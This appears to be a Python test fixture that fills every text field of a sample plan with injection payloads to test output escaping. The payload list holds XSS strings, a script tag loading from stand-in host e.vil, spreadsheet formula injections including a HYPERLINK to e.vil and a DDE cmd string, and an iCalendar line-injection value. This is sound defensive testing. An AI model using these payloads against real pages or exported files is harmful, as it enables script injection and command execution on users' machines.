"""A plan in which every text wants to act: as markup, as a formula, as a control, as a new line."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator
from itertools import cycle
from typing import Any

from planner.plan.model import Plan
from some_plans import HOSTILE, example

PAYLOADS = (
    "<script>alert(1)</script>",
    "</style><script src=http://e.vil/x.js>",
    '" onload="alert(1)" x=\'',
    "]]><!-- &lt; &amp; <svg/onload=x>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://e.vil","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    " =1",
    "'=1",
    "one\r\nBEGIN:VEVENT\r\nSUMMARY:x; a,b\\n",
    "noncharacters \ufffe\uffff \ud800 \x00\x0b",
    *HOSTILE,
)
_KEEP = {"rhythm", "goal", "under", "follows"}
"""Texts that say what belongs together, or are read by the program."""


def poisoned() -> Plan:
    """The shop with the next payload in every text."""
    plan: Plan = spoiled(example(), cycle(PAYLOADS))
    return plan


def spoiled(row: Any, payloads: Iterator[str]) -> Any:
    """A row of the plan with every text in it replaced, and in all rows that it holds."""
    changed: dict[str, Any] = {}
    for field in dataclasses.fields(row):
        kind, value = field.metadata.get("kind"), getattr(row, field.name)
        if kind == "text" and field.name not in _KEEP:
            changed[field.name] = next(payloads)
        elif kind == "texts" and field.name not in ("serves", "guards"):
            changed[field.name] = (next(payloads), next(payloads))
        elif kind == "rows":
            changed[field.name] = tuple(spoiled(one, payloads) for one in value)
        elif kind == "row" and value is not None:
            changed[field.name] = spoiled(value, payloads)
    return dataclasses.replace(row, **changed)
